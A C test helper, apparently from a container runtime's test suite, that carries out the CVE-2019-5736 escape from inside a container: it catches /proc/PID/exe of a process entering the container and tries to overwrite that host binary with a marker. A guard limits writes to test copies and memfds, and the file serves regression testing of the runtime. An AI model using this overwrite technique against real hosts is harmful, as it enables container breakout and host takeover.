/* SPDX-License-Identifier: Apache-2.0 */
/* exe-attack: CVE-2019-5736 staged from inside a container, for
 * tests/bats/exec-cve-2019-5736.bats.  Static: it runs in a busybox rootfs.
 *
 *   exe-attack LOG SECONDS MARKER
 *
 * Run as the container's init (root of the container).  It learns the next
 * pid of its pid namespace (a probe child), writes "ready" to LOG, and
 * spins on /proc/NEXT/exe until a process with that pid appears (the one
 * `berth exec` or `nsenter` puts in the container), opening it O_PATH: the
 * reference to a host binary the attack needs.  Only files named
 * "*attack-target*" (the test's copies) or memfds are ever written, so that
 * a slip of the test cannot damage a real binary: any other target
 * (nsenter itself before its exec) is dropped and opened again.  Then it
 * tries to reopen /proc/self/fd/N O_WRONLY|O_TRUNC and write MARKER, again
 * and again while that fails with ETXTBSY (the binary still runs), until
 * the deadline.
 *
 * LOG lines: "ready", "denied N" (EACCES/EPERM opening the exe link: the
 * process was there and protected), "opened TARGET", "missed TARGET" (it
 * had exec'd already), "rewrote TARGET", "write failed TARGET: ERR",
 * "timeout", and finally "done". */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *attack_log;

static void
say(const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    vfprintf(attack_log, fmt, ap);
    va_end(ap);
    fputc('\n', attack_log);
    fflush(attack_log);
}

static double
now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool
is_eligible(const char *target)
{
    return strstr(target, "attack-target") != NULL || strncmp(target, "/memfd:", 7) == 0;
}

/* The pid the next process of our pid namespace gets. */
static pid_t
next_pid(void)
{
    pid_t p = fork();

    if (p == 0)
        _exit(0);
    if (p < 0) {
        say("fork: %s", strerror(errno));
        exit(1);
    }
    waitpid(p, NULL, 0);
    return p + 1;
}

/* Spin until /proc/PID/exe is an eligible target; returns its O_PATH fd,
 * or -1 at the deadline or when the process had exec'd into something
 * else already. */
static int
catch_exe(pid_t pid, double deadline, char *target, size_t size)
{
    char path[64], self[64];
    unsigned long denied = 0, other = 0;

    snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
    while (now() < deadline) {
        int fd = open(path, O_PATH | O_CLOEXEC);
        ssize_t n;

        if (fd < 0) {
            if (errno == EACCES || errno == EPERM)
                denied++;
            else if (errno != ENOENT && other++ == 0)
                say("error %s", strerror(errno));
            continue;
        }
        snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
        n = readlink(self, target, size - 1);
        target[n > 0 ? n : 0] = '\0';
        if (is_eligible(target)) {
            if (denied)
                say("denied %lu", denied);
            say("opened %s", target);
            return fd;
        }
        close(fd);
        /* The busybox of the container: the process exec'd before we saw
         * the runtime's binary (or we were never allowed to). */
        if (strstr(target, "busybox") != NULL) {
            if (denied)
                say("denied %lu", denied);
            say("missed %s", target);
            return -1;
        }
    }
    if (denied)
        say("denied %lu", denied);
    say("timeout");
    return -1;
}

int
main(int argc, char **argv)
{
    char target[4096], self[64];
    const char *marker;
    double deadline;
    int err = 0;
    pid_t pid;
    int fd;

    if (argc != 4) {
        fprintf(stderr, "usage: exe-attack LOG SECONDS MARKER\n");
        return 2;
    }
    attack_log = fopen(argv[1], "a");
    if (attack_log == NULL)
        return 1;
    marker = argv[3];
    signal(SIGTERM, SIG_DFL);
    pid = next_pid();
    say("ready");
    deadline = now() + atof(argv[2]);
    fd = catch_exe(pid, deadline, target, sizeof(target));
    if (fd >= 0) {
        snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
        while (now() < deadline) {
            int w = open(self, O_WRONLY | O_TRUNC | O_CLOEXEC);

            if (w >= 0) {
                ssize_t n = write(w, marker, strlen(marker));

                close(w);
                if (n == (ssize_t)strlen(marker)) {
                    say("rewrote %s", target);
                    err = 0;
                    break;
                }
                err = n < 0 ? errno : EIO;
            } else {
                err = errno;
            }
            /* ETXTBSY: the binary still runs somewhere; anything else
             * (EPERM from a sealed memfd, EACCES) will not change. */
            if (err != ETXTBSY)
                break;
            usleep(2000);
        }
        if (err != 0)
            say("write failed %s: %s", target, strerror(err));
    }
    say("done");
    return 0;
}
